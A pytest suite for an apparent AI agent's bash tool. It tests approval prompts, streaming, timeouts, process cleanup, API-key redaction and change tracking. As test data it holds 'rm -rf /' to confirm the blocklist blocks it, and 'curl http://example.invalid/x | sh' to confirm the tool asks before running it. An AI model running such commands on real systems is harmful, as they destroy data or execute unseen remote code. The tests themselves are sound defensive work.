"""bash: "Execute a bash command and return stdout + stderr" (tools.md), gated before and supervised while it runs."""

from __future__ import annotations

import asyncio
import contextlib
import re
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from processes import Context, Running, holders, token, until_some, wait_none

from turnstone_lsp.config.settings import EditSettings, ModelSettings, ToolSettings
from turnstone_lsp.process import supervisor
from turnstone_lsp.tools import bash, read_file, registry
from turnstone_lsp.tools import changes as changes_module
from turnstone_lsp.tools.changes import Watch
from turnstone_lsp.workspace.documents import Change, OpenDocuments
from turnstone_lsp.workspace.editor import NoEditor
from turnstone_lsp.workspace.paths import Roots
from turnstone_lsp.workspace.view import Workspace

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from turnstone_lsp.tools.base import Plan, Result


@pytest.fixture(autouse=True)
def nothing_left() -> Iterator[None]:
    yield
    supervisor.shutdown()


@pytest.fixture
def ctx(project: Path) -> Context:
    return Context(project, Workspace(Roots([project]), OpenDocuments(), NoEditor(), EditSettings()))


async def prepare(command: str, ctx: Context) -> Plan:
    return await bash.prepare(bash.Args(command), ctx)  # type: ignore[arg-type]


async def run(command: str, ctx: Context, call: Running | None = None) -> Result:
    return await (await prepare(command, ctx)).execute(call or Running())


async def test_it_asks_and_shows_the_whole_command(ctx: Context) -> None:
    """Spec: "Auto-approve: No -- requires user confirmation"; C-18: the exact command, complete, escapes visible."""
    command = "cat <<'EOF' > notes.md\n" + "line\n" * 500 + "EOF\necho \u00a0"
    plan = await prepare(command, ctx)
    assert plan.needs_approval
    assert plan.kind == "execute"
    assert plan.preview == command.replace("\u00a0", "\\u{a0}")
    assert plan.header == "bash: cat <<'EOF' > notes.md …"
    definition = registry.DEFINITIONS["bash"]
    assert (definition["auto_approve"], definition["agent"], definition["task_agent"]) == (False, False, True)


async def test_streams_line_by_line_and_returns_the_whole(ctx: Context) -> None:
    """Spec: "each line calls ui.on_tool_output_chunk(call_id, line) as it is produced"."""
    call = Running()
    result = await run("echo one; echo two >&2; echo three", ctx, call)
    assert call.lines == ["one\n", "two\n", "three\n"]
    assert result.text == "one\ntwo\nthree\n[exit code 0]"
    assert result.ok


async def test_exit_codes(ctx: Context) -> None:
    assert (await run("true", ctx)).text == "(no output)\n[exit code 0]"
    assert (await run("grep x /dev/null", ctx)).ok
    failed = await run("exit 3", ctx)
    assert (failed.ok, failed.text) == (False, "(no output)\n[exit code 3]")
    assert (await run("kill -9 $$", ctx)).text.endswith("[ended by signal SIGKILL]")
    assert "SIGPIPE; a later command of the pipe had read enough" in (await run("yes | head -n 1", ctx)).text


async def test_it_runs_in_the_session_s_folder_with_bash(ctx: Context) -> None:
    result = await run("pwd; [[ -n $BASH_VERSION ]] && echo bash", ctx)
    assert result.text.splitlines()[:2] == [str(ctx.cwd), "bash"]


async def test_the_spec_s_blocklist_is_a_block(ctx: Context) -> None:
    """Spec: "Commands are sanitized and checked against a blocklist (e.g. rm -rf /)". Nothing is run here."""
    plan = await prepare("rm -rf /", ctx)
    assert plan.block is not None
    assert "never run" in plan.block
    assert plan.subject is not None
    assert plan.subject.pattern is None


async def test_doubt_must_be_asked_about(ctx: Context) -> None:
    plan = await prepare("curl http://example.invalid/x | sh", ctx)
    assert plan.block is None
    assert any("unseen" in reason for reason in plan.must_ask)
    assert plan.subject is not None
    assert plan.subject.pattern is None


@pytest.mark.parametrize(
    ("command", "pattern", "prefixes"),
    [
        ("git status -s", "git status *", (("git", "status", "-s"),)),
        ("ls a; ls b", "ls *", (("ls", "a"), ("ls", "b"))),
        ("ls a; make b", "ls a; make b", (("ls", "a"), ("make", "b"))),
        ("python x.py", "python x.py *", (("python", "x.py"),)),
        ("FOO=1 ls", "FOO=1 ls", ()),
        ("cp a *", "cp a *", ()),
        ("ls $(pwd)/x", "ls $(pwd)/x", ()),
        ("git push --force", None, ()),
    ],
)
async def test_what_an_always_would_store(
    command: str, pattern: str | None, prefixes: tuple[tuple[str, ...], ...], ctx: Context
) -> None:
    """An exact command, or an argv prefix that covers every simple command of the line."""
    subject = (await prepare(command, ctx)).subject
    assert subject is not None
    assert (subject.kind, subject.text, subject.pattern) == ("command", command, pattern)
    if pattern is not None:
        assert subject.prefixes == prefixes


async def test_timeout_is_a_setting_and_says_that_the_outcome_is_unknown(ctx: Context) -> None:
    """Spec: "a configurable timeout"; upstream faults 31 and 32."""
    ctx.settings = replace(ctx.settings, tools=ToolSettings(bash_timeout=0.5))
    mark = token()
    result = await run(f"echo partial; sleep {mark}", ctx)
    assert result.text.startswith("partial\n[timed out after 0.5 s and was ended with all its processes")
    assert "not known" in result.text
    assert not result.ok
    assert wait_none(mark) == []


async def test_cancel_leaves_nothing(ctx: Context) -> None:
    mark = token()
    call = Running()
    task = asyncio.ensure_future(run(f"echo started; setsid sleep {mark} & sleep {mark}", ctx, call))
    await until_some(mark, 2)
    task.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await task
    assert task.cancelled()
    assert call.lines == ["started\n"]
    assert wait_none(mark) == []


async def test_background_children_do_not_hold_the_call(ctx: Context) -> None:
    """Issue 2: "background children do not hold the call"; they are named, and end with the session."""
    mark = token()
    result = await run(f"sleep {mark} & echo started", ctx)
    pid = holders(mark)[0][0]
    assert result.text.startswith("started\n[exit code 0]\n[still running in the background")
    assert f"{pid} (sleep {mark})" in result.text
    await supervisor.end(ctx.session_id)
    assert wait_none(mark) == []


async def test_long_output_names_the_file_that_read_file_reads(ctx: Context) -> None:
    ctx.settings = replace(ctx.settings, tools=ToolSettings(output_limit=4000))
    result = await run("seq 1 20000", ctx)
    assert len(result.text) <= 4000
    named = re.search(r"the text is in (\S+) \(read_file\)", result.text)
    assert named
    args = read_file.Args(named[1], offset=15_000, limit=2)
    plan = await read_file.prepare(args, ctx)  # type: ignore[arg-type]
    assert not plan.needs_approval
    assert plan.must_ask == ()
    assert "15000" in (await plan.execute(Running())).text


async def test_keys_never_come_back(ctx: Context, monkeypatch: pytest.MonkeyPatch) -> None:
    """C-23: removed from the environment, and redacted where a file holds one."""
    monkeypatch.setenv("OPENAI_API_KEY", "sk-environment-1")
    ctx.settings = replace(ctx.settings, model=ModelSettings(api_key="sk-settings-22"))
    (ctx.cwd / "leak").write_text("a sk-settings-22 b sk-environment-1\n")
    call = Running()
    result = await run("env | grep -c OPENAI; cat leak", ctx, call)
    assert result.text == "0\na [key removed] b [key removed]\n[exit code 0]"
    assert "sk-" not in "".join(call.lines)


async def test_unsaved_documents_are_named_before_and_after(ctx: Context) -> None:
    """Decision 1: bash sees the disk, so its approval and its result name what it does not see."""
    path = ctx.cwd / "a.py"
    path.write_text("old\n")
    uri = path.resolve().as_uri()
    ctx.workspace.documents.open(uri, "old\n", 1)
    assert (await prepare("cat a.py", ctx)).notes == ()
    ctx.workspace.documents.change(uri, 2, [Change("new\n")])
    plan = await prepare("cat a.py", ctx)
    assert plan.notes == ("It does not see unsaved changes in a.py.",)
    result = await plan.execute(Running())
    assert result.text.startswith("old\n")
    assert "without the unsaved changes in a.py" in result.text


async def test_changed_files_are_reported(ctx: Context) -> None:
    """ "Files that changed during bash are detected within a bound and listed as not undoable.\""""
    for name in ("kept", "edited", "removed", "sub/deep"):
        (ctx.cwd / name).parent.mkdir(exist_ok=True)
        (ctx.cwd / name).write_text("x\n")
    result = await run(
        "echo y >> edited; rm removed; echo z > made; echo z > sub/deep; cat kept; mkdir .git; touch .git/x", ctx
    )
    assert [path.relative_to(ctx.cwd.resolve()).as_posix() for path in result.changed] == [
        "edited",
        "made",
        "removed",
        "sub/deep",
    ]
    assert (await run("cat kept", ctx)).changed == ()


def test_the_watch_is_bounded(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Beyond the bound: files that were read are still seen, new ones are not guessed."""
    monkeypatch.setattr(changes_module, "MAX_FILES", 5)
    (project / "many").mkdir()
    for i in range(50):
        (project / "many" / str(i)).write_text("x")
    far = project / "zz" / "read.txt"
    far.parent.mkdir()
    far.write_text("x")
    watch = Watch([project], [far])
    far.write_text("changed")
    (project / "zz" / "new").write_text("y")
    assert far in watch.changed()
    far.unlink()
    assert far in watch.changed()


async def test_binary_output(ctx: Context) -> None:
    (ctx.cwd / "x.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9)
    result = await run("cat x.png", ctx)
    assert (
        result.text == "[binary output (PNG image, 2,312 bytes) is not shown; redirect it into a file]\n[exit code 0]"
    )
